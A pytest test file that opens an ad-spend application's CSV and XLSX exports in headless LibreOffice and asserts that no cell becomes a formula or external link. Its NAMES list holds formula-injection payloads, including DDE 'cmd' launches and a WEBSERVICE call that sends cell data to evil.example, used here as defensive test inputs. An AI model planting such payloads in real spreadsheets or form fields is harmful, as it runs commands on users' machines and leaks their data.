"""LibreOffice itself opens the exports: whatever people call their products, no cell is a formula.

Needs `soffice` (Debian: libreoffice-calc-nogui), which is too large to install for each run.
"""

from __future__ import annotations

import shutil
import subprocess
from datetime import UTC, datetime
from pathlib import Path
from xml.etree import ElementTree as Xml
from zipfile import ZipFile

import pytest

from adgen import bundles
from adgen.commands import Commands
from adgen.domain import Person, Role, SpendFilter
from adgen.exports import Format, What
from adgen.store.database import Database
from tests.conftest import add_person
from tests.store.ledgers import Ledger
from tests.test_exports import WICKED, exported

SOFFICE = shutil.which("soffice")
pytestmark = [
    pytest.mark.drill,
    pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed"),
]
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
NAMES = (
    *WICKED,
    "=cmd|'/c calc'!A0",
    "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    '","=1+1',
    '";=1+1;"',
    "Oak\t=1+1",
    "Oak\n=1+1",
    "Oak;=1+1",
    "'=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "{=1+1}",
    "TRUE",
    "1e9",
    "03/04",
)  # fmt: skip
AT = datetime(2026, 3, 2, 12, tzinfo=UTC)


@pytest.fixture
def analyst(commands: Commands, database: Database) -> Person:
    """Who exports, after everybody gave their ad such a name and every call failed with it."""
    ledger, ann = Ledger(database), add_person(database, "ann@example.com")
    for name in NAMES:
        ad = ledger.ad(ann, AT, name)
        ledger.settle(ledger.open(ad, "video_generator", AT), success=False, error=name)
    return add_person(database, "analyst@example.com", Role.ANALYST)


def opened(made: Path, work: Path, infilter: str = "") -> Xml.Element:
    """The file as LibreOffice has it after opening: every cell with its kind."""
    profile = f"-env:UserInstallation={(work / 'profile').as_uri()}"
    words = [SOFFICE or "", profile, "--headless", "--norestore"]
    words += [f"--infilter={infilter}"] if infilter else []
    words += ["--convert-to", "fods", "--outdir", str(work), str(made)]
    ended = subprocess.run(words, capture_output=True, text=True, timeout=180, check=False)
    sheet = work / f"{made.stem}.fods"
    assert sheet.is_file(), ended.stdout + ended.stderr
    return Xml.fromstring(sheet.read_text("utf-8"))  # noqa: S314 -- LibreOffice wrote it


def formulas(sheet: Xml.Element) -> list[str]:
    """Cells that compute something, and links to elsewhere."""
    found = [cell.get(f"{TABLE}formula") for cell in sheet.iter(f"{TABLE}table-cell")]
    links = [link.tag for kind in ("dde-link", "table-source") for link in sheet.iter(TABLE + kind)]
    return [formula for formula in found if formula] + links


def texts(sheet: Xml.Element) -> set[str]:
    """What stands in the cells."""
    return {
        "\n".join("".join(line.itertext()) for line in cell.iter(f"{TEXT}p"))
        for cell in sheet.iter(f"{TABLE}table-cell")
    }


@pytest.mark.parametrize("what", What)
@pytest.mark.parametrize("form", [Format.CSV, Format.XLSX])
def test_no_cell_is_a_formula(
    commands: Commands, analyst: Person, tmp_path: Path, what: What, form: Format
) -> None:
    made = exported(commands, analyst, SpendFilter(), what, form, tmp_path)
    sheet = opened(made, tmp_path)
    assert formulas(sheet) == []
    if what is What.CALLS:
        # Signs that it draws in their own way aside, every name is there.
        there = {"".join(text.split()).lstrip("'") for text in texts(sheet)}
        plain = [name for name in NAMES if name.isascii() and name.isprintable()]
        assert {"".join(name.split()).lstrip("'") for name in plain[:9]} <= there


@pytest.mark.parametrize("marks", ["44,34,76,1", "59/44/9,34,76,1", "44,34,76,1,,0,false,true"])
def test_nor_when_it_is_told_to_look_for_numbers_or_other_marks(
    commands: Commands, analyst: Person, tmp_path: Path, marks: str
) -> None:
    made = exported(commands, analyst, SpendFilter(), What.CALLS, Format.CSV, tmp_path)
    assert formulas(opened(made, tmp_path, f"Text - txt - csv (StarCalc):{marks}")) == []


def test_nor_in_the_ledger_of_a_bundle(
    commands: Commands, database: Database, person: Person, tmp_path: Path
) -> None:
    ledger = Ledger(database)
    ad = ledger.ad(person, AT)
    for name in NAMES:
        ledger.settle(ledger.open(ad, "video_generator", AT), success=False, error=name)
    state, costs = commands.load_ad(person, ad), commands.load_costs(person, ad)
    with (tmp_path / "ad.zip").open("wb") as out:
        bundles.write_bundle(out, state, costs, {}, Path)
    with ZipFile(tmp_path / "ad.zip") as bundle:
        made = Path(bundle.extract("costs.csv", tmp_path))
    assert formulas(opened(made, tmp_path)) == []
    assert formulas(opened(made, tmp_path, "Text - txt - csv (StarCalc):59/44/9,34,76,1")) == []


def test_what_looks_for_formulas_finds_them(tmp_path: Path) -> None:
    bare = tmp_path / "bare.csv"
    bare.write_text("words\n=1+1\n")
    assert len(formulas(opened(bare, tmp_path))) == 1
